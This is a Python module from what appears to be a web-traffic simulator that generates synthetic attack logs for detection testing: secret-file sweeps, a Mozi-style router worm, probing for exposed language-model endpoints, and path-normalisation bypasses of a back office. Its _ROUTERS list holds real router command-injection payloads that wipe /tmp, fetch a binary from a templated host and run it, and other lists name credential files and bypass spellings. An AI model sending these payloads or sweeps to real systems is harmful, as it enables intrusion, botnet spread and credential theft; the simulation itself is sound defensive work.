"""First sight: what is swept for: settings left lying about, routers, models, and other spellings of one door."""

from __future__ import annotations

from typing import Final

import numpy as np

from floodwarden.simulate.declare import Strength, family
from floodwarden.simulate.scene import Rows, Scene, together

_FOUND: Final = 0.4  # share of the time after which there is something
_DIRECTORIES: Final = (
    "", "/api", "/app", "/backend", "/admin", "/laravel", "/core", "/web", "/public", "/old", "/dev", "/staging",
    "/shop", "/crm", "/cms", "/new", "/beta", "/v1", "/src", "/docker",
)  # fmt: skip
_SETTINGS: Final = (
    "/.env", "/.env.bak", "/.env.production", "/.env.local", "/.env.old", "/.env.example", "/.env.save", "/env.js",
    "/config.json", "/.aws/credentials", "/.env.backup", "/settings.yml", "/phpinfo.php", "/.env.dev",
)  # fmt: skip
_ROUTERS: Final = (
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{}:8088/m.m+-O+/tmp/n;sh+n&curpath=/",
    "/GponForm/diag_Form?images/?XWebPageName=diag&diag_action=ping&dest_host=`busybox+wget+http://{}:8088/m.a`",
    "/boaform/admin/formPing?target_addr=;wget+http://{}:8088/m.m", "/HNAP1/?soap=`cd+/tmp;wget+http://{}:8088/m.m`",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://{}:8088/m.a;sh+/tmp/m.a",
)  # fmt: skip
_MODEL_ROOTS: Final = ("", "/api", "/openai", "/ollama", "/llm", "/proxy", "/gateway", "/v2", "/chat")
_MODELS: Final = (
    "/v1/models", "/v1/chat/completions", "/v1/messages", "/api/tags", "/api/generate", "/mcp", "/sse",
    "/v1beta/models",
)  # fmt: skip
_SPELLINGS: Final = (
    "/./backoffice{}", "//backoffice{}", "/%2e/backoffice{}", "/backoffice;/{}", "/backoffice..;{}", "/BackOffice{}",
    "/items/..;/backoffice{}", "/static/../backoffice{}", "/%62ackoffice{}", "/backoffice%00{}", "/backoffice%20{}",
    "/backoffice/.{}", "/backoffice%2f{}", "/blog/%2e%2e/backoffice{}", "/backoffice{}.json", "/backoffice{}%3f",
    "/backoffice{}/..;/", "/backoffice{}#", "/backoffice%09{}", "/api/..%2fbackoffice{}", "/backoffice{};.css",
    "/healthz/../backoffice{}", "/static/..%5cbackoffice{}", "/backoffice{}/%2e", "/items%3f/backoffice{}",
)  # fmt: skip


@family(oat="OAT-014", weak=Strength(12, 0.5, 2400), medium=Strength(40, 3, 900), strong=Strength(80, 20, 300))
def env_sweep(scene: Scene, how: Strength) -> Rows:
    """Settings with secrets in them are looked for in every directory, and a key that stands in one is used elsewhere.

    Rented machines, each another part of the list, nearly all 404, one in sixty 403. After four tenths of the time one
    file is there (200); some seconds later a machine that never looked for anything reads that customer's orders page
    by page with his key, a twentieth of all requests, while the others go on looking.

    Source: Palo Alto Networks Unit 42, "Leaked environment variables allow large-scale extortion operation in cloud
    environments" (110,000 domains), 2024-08-15; US FBI and CISA, "Known indicators of compromise associated with
    Androxgh0st malware", 2024-01-16.
    """
    rng = scene.rng
    n = max(how.sources, int(how.sources * how.per_s * how.lasts_s))
    used = max(4, n // 20)
    at_s = scene.steady((n - used) / how.lasts_s, how.lasts_s)
    looks = len(at_s)
    asked = [one + two for one in _DIRECTORIES for two in _SETTINGS if (one, two) != ("/old", "/.env.backup")]
    path = scene.world.paths.all(asked)[rng.permutation(looks) % len(asked)]
    ip = scene.by_turns(scene.addresses(how.sources - 1, "hosting"), looks)
    ua = scene.tool("Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) AppleWebKit/537.36 Version/4.0")
    status = scene.mostly(looks, 404, 403, 1 / 60)
    there = int(np.argmax(at_s >= how.lasts_s * _FOUND))
    path[there], status[there] = scene.world.paths.code("/old/.env.backup"), 200
    swept = scene.requests(at_s, "missing", path=path, ip=ip, ua=ua, status=status)
    from_s = float(at_s[there]) + 20
    read_s = from_s + np.sort(rng.uniform(0, max(1.0, how.lasts_s - from_s), used))
    pages = [f"/api/v1/orders?page={page}" for page in range(1, used + 1)]
    who = {"ip": int(scene.addresses(1)[0]), "key": scene.key(f"key-app-{int(rng.integers(40)):02d}")}
    return together(swept, scene.requests(read_s, "api_orders", path=pages, ua=scene.tool(), **who))


@family(oat="OAT-014", weak=Strength(40, 0.1, 3000), medium=Strength(200, 0.8, 900), strong=Strength(600, 4, 300))
def worm_spreading(scene: Scene, how: Strength) -> Rows:
    """Infected routers look for others of their kind in whatever answers, and tell each to fetch the worm from them.

    Five holes of routers that we are not, in no order, from homes worldwide; each request names the address it comes
    from. Twenty times as many of them at the end as at the beginning. All 404, one in twenty-five 400; the name is
    "Hello, world".

    Source: 360 Netlab, "Mozi, another botnet using DHT", 2019-12-23; Microsoft, "How to proactively defend against Mozi
    IoT botnet", 2021-08-19.
    """
    rng, routers = scene.rng, how.sources
    mean = how.per_s * how.lasts_s
    joins_s = how.lasts_s * 0.97 * np.log1p(np.sort(rng.random(routers)) * 19) / np.log(20)
    asks = np.maximum(1, rng.poisson(mean, routers))
    which = np.repeat(np.arange(routers), asks)
    n = len(which)
    at_s = joins_s[which] + rng.random(n) * (how.lasts_s - joins_s[which])
    ip = scene.addresses(routers, "bot")
    texts = [scene.world.ips.texts[code] for code in ip.tolist()]
    hole = rng.integers(0, len(_ROUTERS), n)
    asked = [_ROUTERS[one].format(texts[by]) for one, by in zip(hole.tolist(), which.tolist(), strict=True)]
    status = scene.mostly(n, 404, 400, 0.04)
    return scene.requests(at_s, "missing", path=asked, ip=ip[which], ua=scene.tool("Hello, world"), status=status)


@family(oat="OAT-014", weak=Strength(1, 4, 1800), medium=Strength(2, 30, 900), strong=Strength(6, 100, 420))
def model_hunting(scene: Scene, how: Strength) -> Rows:
    """Language models that stand open are looked for, seventy-two doors in order, with a question that harms nobody.

    The doors that such servers have are not here (404). The shop's own assistant is, and answers (200): one request in
    eight is the same short question put to it, to learn which model it is, with no page or account before it.

    Source: Cisco, "Detecting exposed LLM servers: a Shodan case study on Ollama" (1,100 servers), 2025-09-02;
    GreyNoise, "Threat actors actively targeting LLMs", 2026-01-08.
    """
    at_s = scene.steady(how.sources * how.per_s, how.lasts_s, shape=5.0)
    n = len(at_s)
    ip = scene.by_turns(scene.addresses(how.sources, "hosting"), n)
    doors = scene.world.paths.all([root + model for root in _MODEL_ROOTS for model in _MODELS])
    who = {"ip": ip, "ua": np.array([scene.tool("openai-python/1.54.3")])}
    made = scene.requests(at_s, "missing", path=doors[np.arange(n) % len(doors)], status=404, **who)
    asks = np.arange(n) % 8 == 7
    made[asks] = scene.requests(at_s, "assistant", status=scene.mostly(n, 200, 400, 0.05), **who)[asks]
    return made


@family(oat="OAT-014", weak=Strength(1, 3, 2400), medium=Strength(2, 30, 900), strong=Strength(5, 90, 420))
def confused_paths(scene: Scene, how: Strength) -> Rows:
    """The way to the back office is spelled in ever other ways, until the server in front and the one behind disagree.

    Dots, slashes, semicolons, percent signs: one order of ten under twenty-five spellings each, by a browser's name and
    nobody's account. Half ends at the back office's door (403), the other half nowhere (404, 400). After three quarters
    of the time one spelling is let through, and the rest are orders read with that, number after number (200).

    Source: O. Tsai, "Breaking parser logic! Take your path normalization off and pop 0days out", Black Hat USA,
    2018-08-08, and "Confusion attacks: exploiting hidden semantic ambiguity in Apache HTTP Server", 2024-08-09.
    """
    rng = scene.rng
    at_s = scene.steady(how.sources * how.per_s, how.lasts_s, shape=3.0)
    n = len(at_s)
    ip = scene.by_turns(scene.addresses(how.sources, "hosting"), n)
    spelling, first = np.arange(n) % len(_SPELLINGS), int(rng.integers(100_000, 150_000))
    through = at_s > how.lasts_s * 0.75
    lucky = int(rng.integers(len(_SPELLINGS)))
    number = np.where(through, first + np.cumsum(through), first + np.arange(n) // len(_SPELLINGS) % 10)
    spelling[through] = lucky
    asked = [_SPELLINGS[s].format(f"/orders/{o}") for s, o in zip(spelling.tolist(), number.tolist(), strict=True)]
    who = {"ip": ip, "ua": scene.world.browsers[rng.integers(0, 16, 1)]}
    made = scene.requests(at_s, "missing", path=asked, status=scene.mostly(n, 404, 400, 0.4), **who)
    reaches = through | (spelling % 2 == 0)
    door = scene.requests(at_s, "backoffice", path=asked, status=np.where(through, 200, 403), **who)
    made[reaches] = door[reaches]
    return made
